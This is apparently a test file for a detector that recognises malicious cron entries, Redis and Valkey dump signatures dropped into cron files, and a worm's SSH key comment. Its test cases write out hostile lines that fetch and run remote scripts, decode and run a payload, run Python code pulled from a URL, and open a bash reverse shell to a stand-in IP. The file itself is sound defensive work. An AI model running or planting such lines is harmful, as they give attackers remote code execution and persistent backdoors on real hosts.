import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { downloadAndRun, dumpMark, isWormKey } from './marks.ts';

const runs = process.env['KEYWARD_DEEP'] ? 20_000 : 200;

describe('a line that fetches something and runs it', () => {
  it.each([
    '*/5 * * * * curl -fsSL http://203.0.113.50/init.sh | sh',
    '*/5 * * * * cd1 -fsSL http://203.0.113.50/kinsing.sh | sh',
    '*/5 * * * * wd1 -q -O- https://example.com/x | bash',
    '*/2 * * * * curl -s http://203.0.113.50/t > .cmd && bash .cmd',
    '*/5 * * * * wget -O .cmd http://203.0.113.50/t && bash .cmd',
    "*/5 * * * * root sh -c 'curl http://203.0.113.50/x|sh'",
    '0 4 * * * root curl -s https://pastebin.com/raw/abc | bash',
    '* * * * * curl -s https://example.com/a | sh',
    '@reboot wget -qO- http://203.0.113.50/x.sh | /bin/bash',
    '1 1 * * * bash <(curl -s http://203.0.113.50/x)',
    '1 1 * * * sh -c "$(curl -fsSL http://198.51.100.7/x)"',
    '* * * * * echo aGk= | base64 -d | sh',
    '* * * * * root bash -i >& /dev/tcp/203.0.113.50/4444 0>&1',
    '*/10 * * * * root (curl -s 198.51.100.7/x.sh||wget -q -O- 198.51.100.7/x.sh)|sh',
    `* * * * * python3 -c "import urllib.request as u;exec(u.urlopen('http://203.0.113.50/x').read())"`,
    'curl http://203.0.113.9/m -o /tmp/m; chmod +x /tmp/m; /tmp/m',
  ])('%j', (line) => {
    expect(downloadAndRun(line)).toBeDefined();
  });

  it.each([
    '0 3 * * * root curl -fsSL https://updates.example.com/agent.sh | sh',
    '*/5 * * * * curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/1234',
    '*/5 * * * * wget -q -O /dev/null http://www.example.com/cron.php',
    '*/15 * * * * www-data wget -q http://localhost/cron.php; sh /opt/after.sh',
    '0 1 * * * root wget -qO- http://mirror.internal/update.sh | sh',
    '# */5 * * * * curl -fsSL http://203.0.113.50/init.sh | sh',
    '17 * * * * root cd / && run-parts --report /etc/cron.hourly',
    '5 4 * * * root /usr/bin/certbot renew --post-hook "sh /etc/reload.sh"',
    '0 0 * * * root mysqldump db | gzip | ssh backup@example.com "cat > f"',
    '0 * * * * curl https://example.com/data.json | python3 /opt/read.py',
  ])('is not %j', (line) => {
    expect(downloadAndRun(line)).toBeUndefined();
  });

  it('is bounded in time on any line', () => {
    for (const piece of ['nc -a ', 'curl ', '| sh ', 'python -c ', '; sh a ', '`curl ', 'http://']) {
      expect(() => downloadAndRun(piece.repeat(50_000))).not.toThrow();
    }
    fc.assert(
      fc.property(fc.string({ maxLength: 2000 }), (line) => void downloadAndRun(line)),
      { numRuns: runs },
    );
  });
});

describe('the mark of a dump', () => {
  it.each([
    ['REDIS0009\u00fa\tredis-ver\u00055.0.7\n\n*/1 * * * * x\n', 'RDB'],
    ['REDIS0006\u00fe\u0000\u0000', 'RDB'],
    ['VALKEY080\u00fa\u000bvalkey-ver\u00059.0.0', 'RDB'],
    ['\n\nREDIS0011\u00fa', 'RDB'],
    ['*2\r\n$6\r\nSELECT\r\n$1\r\n0\r\n*3\r\n', 'append-only'],
  ])('%j', (text, word) => {
    expect(dumpMark(text)).toContain(word);
  });

  it('is not a file that speaks of Redis', () => {
    expect(
      dumpMark('# backs up REDIS0 and redis-ver files\n0 1 * * * root redis-cli SAVE\n'),
    ).toBeUndefined();
  });
});

it('knows the key of the first worms by its comment', () => {
  expect(isWormKey('ssh-rsa AAAAB3Nza crackit')).toBe(true);
  expect(isWormKey('ssh-ed25519 AAAAC3 joe@crackit-lab.example')).toBe(false);
});
